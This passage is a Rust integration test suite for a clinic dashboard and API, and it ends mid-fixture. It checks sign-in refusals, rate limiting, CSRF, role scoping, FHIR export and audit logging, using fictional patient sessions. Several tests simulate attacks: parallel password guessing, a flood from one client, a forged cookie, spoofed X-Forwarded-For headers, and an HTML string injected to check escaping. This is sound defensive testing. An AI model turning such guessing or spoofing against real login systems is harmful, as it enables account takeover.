//! The dashboard and the scoped API over real HTTP on loopback, against a real SQLite store:
//! sign-in and its refusals (same message for a wrong password and an unknown user, rate
//! limiting per name and client, parallel guesses, a flood from one client, the client's
//! address behind a trusted proxy), CSRF, session cookies, `next`, the `Host` check, caching
//! headers, scope for every role on pages, CSV, FHIR and the API, CSV formula guards, API
//! tokens (expiry, revocation, re-entered password, password change) and the audit log.

use std::sync::Arc;

use reqwest::StatusCode;
use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use serde_json::{Value, json};
use vigil_cloud::auth::{self, BAD_LOGIN, DEFAULT_TOKEN_DAYS, FREE_ATTEMPTS, Role};
use vigil_cloud::config::HttpConfig;
use vigil_cloud::config::SiteInfo;
use vigil_cloud::metrics::Metrics;
use vigil_cloud::store::CloudStore;
use vigil_cloud::web::{ApiState, ClientConn, router};
use vigil_shared::chunk::Chunk;
use vigil_shared::doc::{
    AdvisoryRecord, CoursePlan, DoseAction, DoseEvent, Observation, PatientDoc, PatientRecord,
    Protocol, Score, Screening, SessionDoc, SessionMeta, SessionState,
};
use vigil_shared::vitals::{Channel, Sample};
use vigil_shared::wire::DocKind;

const SERVICE_TOKEN: &str = "service-token-0123456789abcdef";
const PASSWORD: &str = "a long enough password";
const T0: i64 = 1_796_000_000_000_000;

fn sites() -> Vec<SiteInfo> {
    vec![
        SiteInfo {
            id: "austin".into(),
            name: "Austin, TX".into(),
            region: "central".into(),
            rooms: vec!["1".into(), "2".into()],
            tz: Some("America/Chicago".into()),
        },
        SiteInfo {
            id: "florida".into(),
            name: "Florida".into(),
            region: "southeast".into(),
            rooms: vec!["1".into()],
            tz: Some("America/New_York".into()),
        },
    ]
}

/// A completed 20-minute session with vitals, a short ECG, a dose timeline, an advisory, a
/// side effect and scores.
fn session(id: &str, site: &str, room: &str, patient: &str, start: i64) -> SessionDoc {
    let minute = 60_000_000;
    let meta = SessionMeta {
        id: id.into(),
        site: site.into(),
        room: room.into(),
        patient_id: patient.into(),
        protocol: Protocol {
            drug: "ketamine".into(),
            route: "iv".into(),
            dose_mg_per_kg: 0.5,
            weight_kg: 70.0,
            planned_minutes: 20,
        },
        state: SessionState::Completed,
        created_us: start - minute,
        started_us: Some(start),
        ended_us: Some(start + 20 * minute),
        dose_events: vec![
            DoseEvent {
                id: "d1".into(),
                at_us: start,
                action: DoseAction::Start,
                rate_mg_per_h: Some(105.0),
                by: "nurse".into(),
            },
            DoseEvent {
                id: "d2".into(),
                at_us: start + 15 * minute,
                action: DoseAction::Stop,
                rate_mg_per_h: Some(0.0),
                by: "nurse".into(),
            },
        ],
        advisories: vec![AdvisoryRecord {
            id: "a1".into(),
            kind: "bp_high".into(),
            subject: "nibp".into(),
            priority: "high".into(),
            detail: "<b>182/96</b> twice".into(),
            raised_us: start + 9 * minute,
            acknowledged_us: Some(start + 10 * minute),
            acknowledged_by: Some("nurse".into()),
            cleared_us: Some(start + 14 * minute),
        }],
        observations: vec![Observation {
            id: "o1".into(),
            at_us: start + 5 * minute,
            effect: "nausea".into(),
            severity: "mild".into(),
            by: "nurse".into(),
        }],
        scores: vec![Score {
            id: "s1".into(),
            at_us: start - minute,
            instrument: "phq9".into(),
            phase: "pre".into(),
            value: 18,
            by: "nurse".into(),
        }],
        discharge: None,
    };
    let mut doc = SessionDoc::create(&meta).unwrap();
    let seconds = 20 * 60;
    let mut add = |channel: Channel, samples: Vec<Sample>| {
        for part in samples.chunks(600) {
            let bytes = Chunk {
                channel,
                samples: part.to_vec(),
            }
            .encode()
            .unwrap();
            doc.append_chunk(channel, bytes).unwrap();
        }
    };
    add(
        Channel::Hr,
        (0..seconds)
            .map(|s| Sample::scalar(start + s * 1_000_000, 70 + (s % 13) as i32))
            .collect(),
    );
    add(
        Channel::Spo2,
        (0..seconds)
            .map(|s| Sample::scalar(start + s * 1_000_000, 97))
            .collect(),
    );
    add(
        Channel::Nibp,
        (0..7)
            .map(|k| Sample {
                t_us: start + k * 3 * minute,
                v: [120 + k as i32 * 10, 80, 93],
            })
            .collect(),
    );
    add(
        Channel::Ecg,
        (0..250 * 30)
            .map(|k| Sample::scalar(start + k * 4_000, ((k % 250) as i32 - 125) * 8))
            .collect(),
    );
    doc.automerge().commit();
    doc
}

struct Server {
    base: String,
    client: reqwest::Client,
    store: Arc<CloudStore>,
    _dir: tempfile::TempDir,
}

impl Server {
    async fn start() -> Server {
        Server::start_with(HttpConfig::default()).await
    }

    /// A server whose `[http]` section names the given trusted proxies.
    async fn behind(trusted_proxies: &[&str]) -> Server {
        let toml = format!(
            "trusted_proxies = [{}]",
            trusted_proxies
                .iter()
                .map(|p| format!("{p:?}"))
                .collect::<Vec<_>>()
                .join(", ")
        );
        Server::start_with(toml::from_str(&toml).unwrap()).await
    }

    async fn start_with(http: HttpConfig) -> Server {
        let dir = tempfile::tempdir().unwrap();
        let store = Arc::new(CloudStore::open(&dir.path().join("cloud.db")).unwrap());
        let fixtures = [
            ("s-austin-1", "austin", "1", "p-a1", T0),
            ("s-austin-2", "austin", "2", "p-a2", T0 + 3_600_000_000),
            ("s-florida-1", "florida", "1", "p-f1", T0 + 7_200_000_000),
        ];
        for (id, site, room, patient, start) in fixtures {
            let mut doc = session(id, site, room, patient, start);
            store
                .commit_document(id, DocKind::Session, site, doc.automerge(), T0)
                .unwrap();
        }
        let users = [
            ("admin", Role::Admin, None, None),
            ("rm-central", Role::RegionalManager, Some("central"), None),
            (
                "rm-southeast",
                Role::RegionalManager,
                Some("southeast"),
                None,
            ),
            ("nurse-austin", Role::Clinician, None, Some("austin")),
        ];
        for (name, role, region, site) in users {
            let user = auth::NewUser {
                username: name,
                role,
                region,
                site,
                password: PASSWORD,
            };
            auth::add_user(&store, &sites(), &user, T0).unwrap();
        }
        let app = router(ApiState {
            store: store.clone(),
            token: SERVICE_TOKEN.into(),
            sites: sites(),
            metrics: Arc::new(Metrics::default()),
            http,
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(
                listener,
                app.into_make_service_with_connect_info::<ClientConn>(),
            )
            .await
        });
        Server {
            base: format!("http://{addr}"),
            client: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            store,
            _dir: dir,
        }
    }

    async fn get(&self, path: &str, cookie: Option<&str>) -> reqwest::Response {
        let mut req = self.client.get(format!("{}{path}", self.base));
        if let Some(c) = cookie {
            req = req.header(COOKIE, c);
        }
        req.send().await.unwrap()
    }

    async fn post(
        &self,
        path: &str,
        cookie: Option<&str>,
        form: &[(&str, &str)],
    ) -> reqwest::Response {
        let body: String = form
            .iter()
            .map(|(k, v)| format!("{k}={}", vigil_web::url_encode(v)))
            .collect::<Vec<_>>()
            .join("&");
        let mut req = self
            .client
            .post(format!("{}{path}", self.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body);
        if let Some(c) = cookie {
            req = req.header(COOKIE, c);
        }
        req.send().await.unwrap()
    }

    /// The sign-in form's CSRF cookie (as a `Cookie` header value) and token.
    async fn login_form(&self) -> (String, String) {
        let res = self.get("/login", None).await;
        assert_eq!(res.status(), StatusCode::OK);
        let cookie = set_cookie(&res, "vigil_login_csrf").expect("login csrf cookie");
        let html = res.text().await.unwrap();
        let token = hidden(&html, "csrf");
        (format!("vigil_login_csrf={cookie}"), token)
    }

    async fn try_login(&self, user: &str, password: &str) -> reqwest::Response {
        let (cookie, csrf) = self.login_form().await;
        self.post(
            "/login",
            Some(&cookie),
            &[
                ("username", user),
                ("password", password),
                ("csrf", &csrf),
                ("next", "/"),
            ],
        )
        .await
    }

    /// Signs in and returns the `Cookie` header value of the session.
    async fn login(&self, user: &str) -> String {
        let res = self.try_login(user, PASSWORD).await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "sign-in of {user}");
        let session = set_cookie(&res, "vigil_session").expect("session cookie");
        format!("vigil_session={session}")
    }

    async fn page(&self, path: &str, cookie: &str) -> (StatusCode, String) {
        let res = self.get(path, Some(cookie)).await;
        (res.status(), res.text().await.unwrap())
    }

    async fn api(&self, path: &str, token: &str) -> (StatusCode, Value) {
        let res = self
            .client
            .get(format!("{}{path}", self.base))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        let status = res.status();
        (status, res.json().await.unwrap_or(Value::Null))
    }
}

fn set_cookie(res: &reqwest::Response, name: &str) -> Option<String> {
    res.headers()
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|v| {
            let (kv, attrs) = v.split_once(';').unwrap_or((v, ""));
            let (k, value) = kv.split_once('=')?;
            (k == name).then(|| {
                assert!(attrs.contains("HttpOnly"), "{v}");
                assert!(attrs.contains("SameSite=Strict"), "{v}");
                value.to_owned()
            })
        })
}

/// The value of a hidden input.
fn hidden(html: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let start = html.find(&marker).expect("hidden input") + marker.len();
    html[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test]
async fn pages_need_a_session_and_redirect_to_sign_in() {
    let s = Server::start().await;
    for path in [
        "/",
        "/sessions",
        "/sessions/s-austin-1",
        "/reports/outcomes",
        "/audit.csv",
    ] {
        let res = s.get(path, None).await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{path}");
        let location = res.headers()[LOCATION].to_str().unwrap().to_owned();
        assert!(location.starts_with("/login?next="), "{path}: {location}");
        // A made-up cookie is no better than none.
        let res = s.get(path, Some("vigil_session=00ff")).await;
        assert_eq!(
            res.status(),
            StatusCode::SEE_OTHER,
            "{path} with a forged cookie"
        );
    }
    // The sign-in page and the stylesheet are public, and pages carry a strict CSP.
    let res = s.get("/login", None).await;
    assert_eq!(res.status(), StatusCode::OK);
    let csp = res.headers()["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("default-src 'none'") && !csp.contains("script-src"),
        "{csp}"
    );
    assert_eq!(
        s.get("/assets/vigil.css", None).await.status(),
        StatusCode::OK
    );
}

#[tokio::test]
async fn wrong_password_and_unknown_user_get_the_same_answer_then_a_rate_limit() {
    let s = Server::start().await;
    let wrong = s.try_login("rm-central", "not the password").await;
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    assert!(set_cookie(&wrong, "vigil_session").is_none());
    let wrong_text = wrong.text().await.unwrap();
    let unknown = s.try_login("nobody-here", "not the password").await;
    assert_eq!(unknown.status(), StatusCode::UNAUTHORIZED);
    let unknown_text = unknown.text().await.unwrap();
    assert!(wrong_text.contains(BAD_LOGIN), "{wrong_text}");
    let message = |html: &str| {
        let start = html.find("id=\"login-error\">").unwrap();
        html[start..].split('<').next().unwrap().to_owned()
    };
    assert_eq!(message(&wrong_text), message(&unknown_text));

    // Failures for one name from one client are counted; past the free attempts even the
    // right password is refused without being checked, and the page says how long to wait.
    for _ in 1..FREE_ATTEMPTS {
        let res = s.try_login("rm-central", "still wrong").await;
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }
    let limited = s.try_login("rm-central", PASSWORD).await;
    assert_eq!(limited.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(set_cookie(&limited, "vigil_session").is_none());
    let retry: u64 = limited.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(retry >= 1, "{retry}");
    assert!(
        limited
            .text()
            .await
            .unwrap()
            .contains("too many failed sign-ins; wait")
    );
}

/// Sends `n` sign-in attempts for `user` at once, all with wrong passwords except the one at
/// `right` (if any), from the client `forwarded_for` claims (through a trusted proxy), and
/// returns the statuses.
async fn parallel_guesses(
    s: &Server,
    user: &str,
    n: usize,
    right: Option<usize>,
    forwarded_for: Option<&str>,
) -> Vec<StatusCode> {
    let (cookie, csrf) = s.login_form().await;
    let mut tasks = tokio::task::JoinSet::new();
    for k in 0..n {
        let password = if Some(k) == right {
            PASSWORD.to_owned()
        } else {
            format!("wrong guess number {k}")
        };
        let body = format!(
            "username={user}&password={}&csrf={csrf}&next=%2F",
            vigil_web::url_encode(&password)
        );
        let mut req = s
            .client
            .post(format!("{}/login", s.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .header(COOKIE, cookie.clone())
            .body(body);
        if let Some(xff) = forwarded_for {
            req = req.header("x-forwarded-for", xff);
        }
        tasks.spawn(async move { req.send().await.unwrap().status() });
    }
    tasks.join_all().await
}

#[tokio::test]
async fn parallel_guesses_get_no_more_checks_than_allowed() {
    let s = Server::start().await;
    // Sixty guesses at once, the right password the 31st: the limiter reserves each attempt
    // before the password is checked, so only the free attempts are evaluated.
    let statuses = parallel_guesses(&s, "rm-central", 60, Some(30), None).await;
    let count = |code: StatusCode| statuses.iter().filter(|s| **s == code).count();
    let (refused, signed_in, limited) = (
        count(StatusCode::UNAUTHORIZED),
        count(StatusCode::SEE_OTHER),
        count(StatusCode::TOO_MANY_REQUESTS),
    );
    assert_eq!(refused + signed_in + limited, 60, "{statuses:?}");
    assert!(
        refused + signed_in <= FREE_ATTEMPTS as usize,
        "{refused} refused and {signed_in} signed in: more evaluated than allowed"
    );
    assert!(signed_in <= 1);
    assert!(limited >= 60 - FREE_ATTEMPTS as usize);
}

#[tokio::test]
async fn a_flood_from_one_client_does_not_lock_the_user_out_elsewhere() {
    // Behind the recommended proxy on loopback: clients told apart by X-Forwarded-For.
    let s = Server::behind(&["127.0.0.1"]).await;
    let attacker = Some("203.0.113.66");
    let statuses = parallel_guesses(&s, "rm-central", 60, None, attacker).await;
    let evaluated = statuses
        .iter()
        .filter(|c| **c == StatusCode::UNAUTHORIZED)
        .count();
    let limited = statuses
        .iter()
        .filter(|c| **c == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert_eq!(evaluated + limited, 60, "{statuses:?}");
    assert!(
        evaluated <= FREE_ATTEMPTS as usize,
        "{evaluated} of the flood's guesses were checked"
    );
    // The user at the clinic, another client, signs in at once.
    let statuses = parallel_guesses(&s, "rm-central", 1, Some(0), Some("198.51.100.7")).await;
    assert_eq!(statuses, [StatusCode::SEE_OTHER]);
}

#[tokio::test]
async fn the_client_address_comes_from_a_trusted_proxy_only() {
    // (trusted proxies, X-Forwarded-For sent, address expected in the audit log)
    let cases: [(&[&str], Option<&str>, &str); 5] = [
        // Not behind a trusted proxy: the header is the client's own claim, ignored.
        (&["10.9.9.9"], Some("198.51.100.7"), "127.0.0.1"),
        (&[], Some("198.51.100.7"), "127.0.0.1"),
        // Behind one: the right-most address that is not a trusted proxy.
        (&["127.0.0.1"], Some("198.51.100.7"), "198.51.100.7"),
        (
            &["127.0.0.1", "10.0.0.0/8"],
            Some("6.6.6.6, 198.51.100.7, 10.1.2.3"),
            "198.51.100.7",
        ),
        (&["127.0.0.1"], None, "127.0.0.1"),
    ];
    for (trusted, xff, expected) in cases {
        let s = Server::behind(trusted).await;
        let session = s.login("rm-central").await;
        let mut req = s
            .client
            .get(format!("{}/sessions/s-austin-1", s.base))
            .header(COOKIE, &session);
        if let Some(xff) = xff {
            req = req.header("x-forwarded-for", xff);
        }
        assert_eq!(req.send().await.unwrap().status(), StatusCode::OK);
        let (_, entries) = s.store.audit_log(10, 0).unwrap();
        let entry = entries
            .iter()
            .find(|e| e.action == "view session")
            .expect("an audit entry");
        assert_eq!(entry.ip, expected, "trusted {trusted:?}, sent {xff:?}");
    }
}

#[tokio::test]
async fn forms_without_their_csrf_token_are_refused() {
    let s = Server::start().await;
    // Sign-in without the token, or with a token that does not match the cookie.
    let (cookie, csrf) = s.login_form().await;
    let creds = [("username", "admin"), ("password", PASSWORD)];
    let res = s.post("/login", Some(&cookie), &creds).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let res = s
        .post("/login", None, &[creds[0], creds[1], ("csrf", &csrf)])
        .await;
    assert_eq!(
        res.status(),
        StatusCode::FORBIDDEN,
        "token without its cookie"
    );

    // Signed-in forms: sign-out and token creation.
    let session = s.login("admin").await;
    let res = s.post("/logout", Some(&session), &[]).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let res = s
        .post(
            "/account/tokens",
            Some(&session),
            &[("csrf", "0000"), ("label", "x")],
        )
        .await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    // Still signed in after the refusals; the right token signs out.
    let (status, html) = s.page("/account", &session).await;
    assert_eq!(status, StatusCode::OK);
    let token = hidden(&html, "csrf");
    let res = s.post("/logout", Some(&session), &[("csrf", &token)]).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        s.get("/", Some(&session)).await.status(),
        StatusCode::SEE_OTHER
    );
}

#[tokio::test]
async fn a_regional_manager_sees_only_their_region_everywhere() {
    let s = Server::start().await;
    let rm = s.login("rm-central").await;
    let (status, html) = s.page("/", &rm).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("id=\"site-austin\"") && !html.contains("site-florida"),
        "overview"
    );
    let (_, html) = s.page("/sessions", &rm).await;
    assert!(html.contains("s-austin-1") && html.contains("s-austin-2"));
    assert!(
        !html.contains("s-florida-1") && html.contains("2 sessions"),
        "list and count"
    );
    // Asking for the other site by filter gives nothing, not the other site's rows.
    let (_, html) = s.page("/sessions?site=florida", &rm).await;
    assert!(!html.contains("s-florida-1") && html.contains("0 sessions"));
    // Searching for the other region's patient finds nothing; one's own, their sessions.
    let (_, html) = s.page("/sessions?patient=p-f1", &rm).await;
    assert!(!html.contains("s-florida-1") && html.contains("0 sessions"));
    let (_, html) = s.page("/sessions?patient=p-a2", &rm).await;
    assert!(
        html.contains("s-austin-2") && html.contains("1 sessions"),
        "{html}"
    );
    let (status, html) = s.page("/sessions/s-florida-1", &rm).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{html}");
    assert!(!html.contains("p-f1"));
    let (status, _) = s.page("/sessions/s-florida-1/fhir", &rm).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, csv) = s.page("/sessions.csv", &rm).await;
    assert_eq!(csv.lines().count(), 3, "{csv}");
    assert!(!csv.contains("florida"));
    for report in [
        "/reports/advisories?from=2026-11-01&to=2026-12-31",
        "/reports/utilisation?from=2026-11-01&to=2026-12-31",
        "/reports/outcomes",
        "/reports/advisories.csv?from=2026-11-01&to=2026-12-31",
        "/reports/utilisation.csv?from=2026-11-01&to=2026-12-31",
        "/reports/outcomes.csv",
    ] {
        let (status, body) = s.page(report, &rm).await;
        assert_eq!(status, StatusCode::OK, "{report}");
        assert!(!body.contains("florida"), "{report}: {body}");
    }
    // The other region's manager sees the mirror image.
    let rm2 = s.login("rm-southeast").await;
    let (status, _) = s.page("/sessions/s-florida-1", &rm2).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = s.page("/sessions/s-austin-1", &rm2).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // The audit log is for admins.
    let (status, _) = s.page("/audit", &rm).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn the_fleet_is_for_admins_and_regional_managers_in_their_region_and_audited() {
    let s = Server::start().await;
    for (site, room, protocol) in [("austin", "1", 2), ("austin", "2", 1), ("florida", "1", 2)] {
        let c = vigil_cloud::store::Connected {
            protocol,
            ..vigil_cloud::store::Connected::new(site, room, "vigil-edge 0.1.0", "a")
        };
        s.store
            .appliance_connected(&c, vigil_cloud::clock::now_us())
            .unwrap();
    }
    let now = vigil_cloud::clock::now_us();
    let token = |user| auth::issue_api_token(&s.store, user, "t", DEFAULT_TOKEN_DAYS, now);
    let nurse = token("nurse-austin").unwrap();
    let (status, body) = s.api("/api/v1/appliances", &nurse).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let rm = token("rm-central").unwrap();
    let (status, list) = s.api("/api/v1/appliances", &rm).await;
    assert_eq!(status, StatusCode::OK, "{list}");
    let rooms: Vec<(String, String)> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["site"].as_str().unwrap().into(),
                a["room"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        rooms,
        [("austin".into(), "1".into()), ("austin".into(), "2".into())]
    );
    let (_, flagged) = s.api("/api/v1/appliances?attention=true", &rm).await;
    let flagged = flagged.as_array().unwrap();
    assert_eq!(flagged.len(), 1, "{flagged:?}");
    assert_eq!(flagged[0]["room"], "2");
    let (status, _) = s.api("/api/v1/appliances?attention=maybe", &rm).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (_, all) = s.api("/api/v1/appliances", SERVICE_TOKEN).await;
    assert_eq!(all.as_array().unwrap().len(), 3);
    // The page: a clinician is refused, a manager sees their region.
    let nurse_cookie = s.login("nurse-austin").await;
    assert_eq!(
        s.page("/fleet", &nurse_cookie).await.0,
        StatusCode::FORBIDDEN
    );
    let rm_cookie = s.login("rm-central").await;
    let (status, html) = s.page("/fleet", &rm_cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("data-site=\"austin\"") && !html.contains("data-site=\"florida\""));
    let (total, rows) = s.store.audit_log(100, 0).unwrap();
    assert!(total >= 4);
    let actions: Vec<&str> = rows
        .iter()
        .filter(|r| r.username == "rm-central")
        .map(|r| r.action.as_str())
        .collect();
    assert!(
        actions.contains(&"api appliances") && actions.contains(&"view fleet"),
        "{actions:?}"
    );
}

#[tokio::test]
async fn api_tokens_carry_their_users_scope() {
    let s = Server::start().await;
    let nurse =
        auth::issue_api_token(&s.store, "nurse-austin", "t", DEFAULT_TOKEN_DAYS, T0).unwrap();
    let (status, body) = s.api("/api/v1/sessions/s-florida-1", &nurse).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    let (unknown_status, unknown) = s.api("/api/v1/sessions/s-nowhere", &nurse).await;
    assert_eq!(unknown_status, StatusCode::NOT_FOUND);
    assert_eq!(
        body["error"].as_str().unwrap().replace("s-florida-1", "X"),
        unknown["error"].as_str().unwrap().replace("s-nowhere", "X"),
        "another site's session looks like an unknown one"
    );
    for path in [
        "/api/v1/sessions/s-florida-1/vitals?channel=hr",
        "/api/v1/sessions/s-florida-1/automerge",
        "/api/v1/sessions/s-florida-1/fhir",
        "/api/v1/patients/p-f1",
    ] {
        assert_eq!(s.api(path, &nurse).await.0, StatusCode::NOT_FOUND, "{path}");
    }
    let (status, _) = s.api("/api/v1/sessions/s-austin-1", &nurse).await;
    assert_eq!(status, StatusCode::OK);
    let (_, page) = s.api("/api/v1/sessions", &nurse).await;
    assert_eq!(page["total"], 2);
    let (_, page) = s.api("/api/v1/sessions?patient=p-f1", &nurse).await;
    assert_eq!(
        page["total"], 0,
        "another site's patient is not found by search"
    );
    let (_, sites) = s.api("/api/v1/sites", &nurse).await;
    assert_eq!(sites.as_array().unwrap().len(), 1);
    // The service token sees everything; a disabled user's token nothing.
    let (_, page) = s.api("/api/v1/sessions", SERVICE_TOKEN).await;
    assert_eq!(page["total"], 3);
    assert!(s.store.set_disabled("nurse-austin", true).unwrap());
    assert_eq!(
        s.api("/api/v1/sessions", &nurse).await.0,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn session_page_draws_charts_and_marks_advisories() {
    let s = Server::start().await;
    let admin = s.login("admin").await;
    let (status, html) = s.page("/sessions/s-austin-1", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        html.matches("<svg class=\"chart\"").count(),
        4,
        "HR, SpO2, BP, ECG"
    );
    assert!(
        html.matches("class=\"marker\"").count() >= 3,
        "the advisory on each chart"
    );
    assert!(html.contains("&lt;b&gt;182/96&lt;/b&gt;"), "detail escaped");
    // 105 mg/h from the start to the stop 15 minutes later: what the pump delivered.
    assert!(
        html.contains("26.2 mg in 15 min of pump time"),
        "the delivered dose (26.25 mg)"
    );
    assert!(!html.contains("<b>182/96</b>"));
    assert!(html.contains("nausea") && html.contains("phq9"));
    // Zooming the ECG changes the window.
    let (_, zoomed) = s
        .page("/sessions/s-austin-1?ecg_from=20&ecg_span=5", &admin)
        .await;
    assert!(zoomed.contains("20 s to 25 s of"));
}

#[tokio::test]
async fn fhir_bundle_uses_loinc_and_ucum() {
    let s = Server::start().await;
    let (status, bundle) = s
        .api("/api/v1/sessions/s-austin-1/fhir", SERVICE_TOKEN)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(bundle["resourceType"], "Bundle");
    let resources: Vec<&Value> = bundle["entry"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| &e["resource"])
        .collect();
    let with_code = |code: &str| {
        resources
            .iter()
            .filter(|r| r["code"]["coding"][0]["code"] == code)
            .count()
    };
    assert_eq!(
        with_code("8867-4"),
        20,
        "one heart-rate observation per minute"
    );
    assert_eq!(with_code("59408-5"), 20);
    assert_eq!(with_code("85354-9"), 7, "every blood pressure reading");
    let hr = resources
        .iter()
        .find(|r| r["code"]["coding"][0]["code"] == "8867-4")
        .unwrap();
    assert_eq!(hr["valueQuantity"]["system"], "http://unitsofmeasure.org");
    assert_eq!(hr["valueQuantity"]["code"], "/min");
    assert_eq!(hr["subject"]["reference"], "Patient/p-a1");
    let bp = resources
        .iter()
        .find(|r| r["code"]["coding"][0]["code"] == "85354-9")
        .unwrap();
    let components: Vec<&str> = bp["component"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["code"]["coding"][0]["code"].as_str().unwrap())
        .collect();
    assert_eq!(components, ["8480-6", "8462-4", "8478-0"]);
    assert_eq!(bp["component"][0]["valueQuantity"]["code"], "mm[Hg]");
    let doses: Vec<&&Value> = resources
        .iter()
        .filter(|r| r["resourceType"] == "MedicationAdministration")
        .collect();
    // 105 mg/h from the start to the stop 15 minutes later: one stretch, 26.25 mg delivered
    // (not the planned 35 mg on every dose event).
    assert_eq!(doses.len(), 1);
    assert_eq!(doses[0]["dosage"]["rateQuantity"]["code"], "mg/h");
    assert_eq!(doses[0]["dosage"]["dose"]["value"], json!(26.25));
    assert_eq!(doses[0]["status"], "completed");
    assert!(doses[0]["effectivePeriod"]["end"].is_string());
}

#[tokio::test]
async fn reads_of_patient_data_are_audited_with_who_and_where() {
    let s = Server::start().await;
    let rm = s.login("rm-central").await;
    assert_eq!(s.page("/sessions/s-austin-1", &rm).await.0, StatusCode::OK);
    assert_eq!(s.page("/sessions.csv", &rm).await.0, StatusCode::OK);
    let nurse =
        auth::issue_api_token(&s.store, "nurse-austin", "t", DEFAULT_TOKEN_DAYS, T0).unwrap();
    assert_eq!(
        s.api("/api/v1/sessions/s-austin-2", &nurse).await.0,
        StatusCode::OK
    );
    let (_, entries) = s.store.audit_log(100, 0).unwrap();
    let seen: Vec<(String, String, String, String)> = entries
        .iter()
        .map(|e| {
            (
                e.username.clone(),
                e.action.clone(),
                e.target.clone(),
                e.ip.clone(),
            )
        })
        .collect();
    let has = |user: &str, action: &str, target: &str| {
        seen.iter().any(|(u, a, t, ip)| {
            u == user && a == action && t.contains(target) && ip == "127.0.0.1"
        })
    };
    assert!(has("rm-central", "view session", "s-austin-1"), "{seen:?}");
    assert!(has("rm-central", "export sessions csv", ""), "{seen:?}");
    assert!(has("nurse-austin", "api session", "s-austin-2"), "{seen:?}");
    // Admins read and export it.
    let admin = s.login("admin").await;
    let (status, csv) = s.page("/audit.csv", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(csv.starts_with("at_utc,at_local,source,site,room,user,action,target,ip"));
    // The cloud's own entries name no site or room.
    assert!(
        csv.contains(",cloud,,,rm-central,view session,s-austin-1,127.0.0.1"),
        "{csv}"
    );
}

#[tokio::test]
async fn reports_count_per_site() {
    let s = Server::start().await;
    let admin = s.login("admin").await;
    // The fixtures start at 2026-11-30 00:53 UTC (T0) and within two hours: still
    // 29 November in Austin and Florida. The range is explicit so the clock doesn't matter.
    let range = "from=2026-11-01&to=2026-12-31";
    let (status, csv) = s
        .page(&format!("/reports/advisories.csv?{range}"), &admin)
        .await;
    assert_eq!(status, StatusCode::OK);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines,
        [
            "site,sessions,category,kind,level,count,per_100_sessions",
            "austin,2,advisory,bp_high,high,2,100.0",
            "austin,2,expected_effect,nausea,mild,2,100.0",
            "florida,1,advisory,bp_high,high,1,100.0",
            "florida,1,expected_effect,nausea,mild,1,100.0",
        ]
    );
    let (_, csv) = s
        .page(&format!("/reports/utilisation.csv?{range}"), &admin)
        .await;
    // Each fixture session runs 20 minutes, one per room: a third of an hour of chair time,
    // on the site's own day.
    assert!(csv.contains("austin,1,1,0.33,,2026-11-29,1"), "{csv}");
    assert!(csv.contains("florida,1,1,0.33,,2026-11-29,1"), "{csv}");
    let (_, csv) = s.page("/reports/outcomes.csv", &admin).await;
    // One PHQ-9 per patient: no change measured yet; no induction of 6 completed.
    assert!(csv.contains("austin,2,0,0,,,0,0"), "{csv}");

    // A patient's course record (outcome scores in the patient document) takes the place of
    // the totals recorded in sessions: 20 at baseline, 9 at the end of induction is a response
    // (9 ≤ 10), not a remission.
    let day = 86_400_000_000;
    let score = |id: &str, at_us: i64, value: i64| Score {
        id: id.into(),
        at_us,
        instrument: "phq9".into(),
        phase: "pre".into(),
        value,
        by: "nurse".into(),
    };
    let record = PatientRecord {
        id: "p-a1".into(),
        site: "austin".into(),
        given_name: "Ada".into(),
        family_name: "Test".into(),
        birth_date: "1980-01-01".into(),
        sex: "female".into(),
        phone: None,
        screening: Screening::default(),
        medications: vec![],
        // One infusion planned: the plan's count and its weekly schedule agree (the larger of
        // the two is the planned count, as on the room screen).
        course: CoursePlan {
            infusions_planned: 1,
            weeks: 1,
            per_week: vec![1],
            ..CoursePlan::default()
        },
        // Out of time order on purpose: the report orders by time. The baseline is the day
        // before the only planned infusion (T0), the end of induction the day after; the
        // maintenance score a month later is not the outcome.
        outcome_scores: vec![
            score("c", T0 + 30 * day, 3),
            score("a", T0 - day, 20),
